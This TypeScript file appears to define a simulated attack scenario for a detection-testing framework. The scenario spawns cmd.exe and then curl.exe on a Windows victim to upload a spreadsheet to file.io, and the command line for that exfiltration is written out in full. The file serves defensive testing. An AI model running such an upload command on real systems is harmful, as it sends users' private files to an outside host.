/**
 * Public tradecraft: curl.exe (shipped with Windows since 1803) uploads a document to a
 * file-sharing service with a multipart form (`-F file=@…`).
 */

import { CMD, type Scenario } from './scenario.js';

export const fileioCurlUpload: Scenario = {
  id: 'fileio-curl-upload',
  title: 'curl.exe uploading a document to file.io with -F',
  platform: 'windows',
  origin: 'public tradecraft: file-sharing sites for exfiltration',
  expect: { fileName: 'curl.exe', host: 'file.io' },
  build(w, fleet, t) {
    const h = fleet.victim;
    const base = fleet.windows.get(h)!;
    const doc = `C:\\Users\\${h.user.name}\\Documents\\Q3-forecast.xlsx`;
    const cmd = w.spawn(t, base.explorer, CMD, `"${CMD}" `, { cwd: `C:\\Users\\${h.user.name}\\` });
    const curl = w.spawn(
      t + 3100,
      cmd,
      'C:\\Windows\\System32\\curl.exe',
      `curl.exe -s -F "file=@${doc}" https://file.io/?expires=1d`,
    );
    w.reach(t + 3160, curl, 'file.io');
  },
};
